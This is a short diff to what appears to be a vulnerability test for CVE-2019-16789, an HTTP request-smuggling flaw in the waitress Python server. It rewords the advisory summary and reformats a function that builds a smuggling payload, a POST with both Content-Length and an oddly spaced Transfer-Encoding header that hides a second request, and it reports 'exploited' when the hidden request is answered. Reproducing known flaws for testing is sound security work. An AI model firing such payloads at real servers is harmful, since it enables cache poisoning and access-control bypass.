@@ -2,7 +2,7 @@
 # id = "PYSEC-2019-138"
 # aliases = ["CVE-2019-16789", "GHSA-968f-66r5-5v74"]
 # package = "waitress"
-# summary = "Special white space around a Transfer-Encoding is ignored, so a header that a proxy in front finds invalid makes two requests of one for the server."
+# summary = "Odd white space around a Transfer-Encoding is ignored, so one request for a proxy is two for the server."
 # severity = [{ type = "CVSS_V3", score = "CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:N" }]
 # cwe = ["CWE-444"]
 # kind = "request-smuggling"
@@ -75,7 +75,10 @@ def converse(data):
 
 def converse_and_look(encoding):
     body = b"0\r\n\r\n" + FOLLOWING
-    head = b"POST /front HTTP/1.1\r\nHost: x\r\nContent-Length: %d\r\nTransfer-Encoding:%s\r\n\r\n" % (len(body), encoding)
+    head = b"POST /front HTTP/1.1\r\nHost: x\r\nContent-Length: %d\r\nTransfer-Encoding:%s\r\n\r\n" % (
+        len(body),
+        encoding,
+    )
     served, statuses = converse(head + body)
     if "/smuggled" in served:
         return "exploited", "the server answered a second request hidden in the first: %s" % served
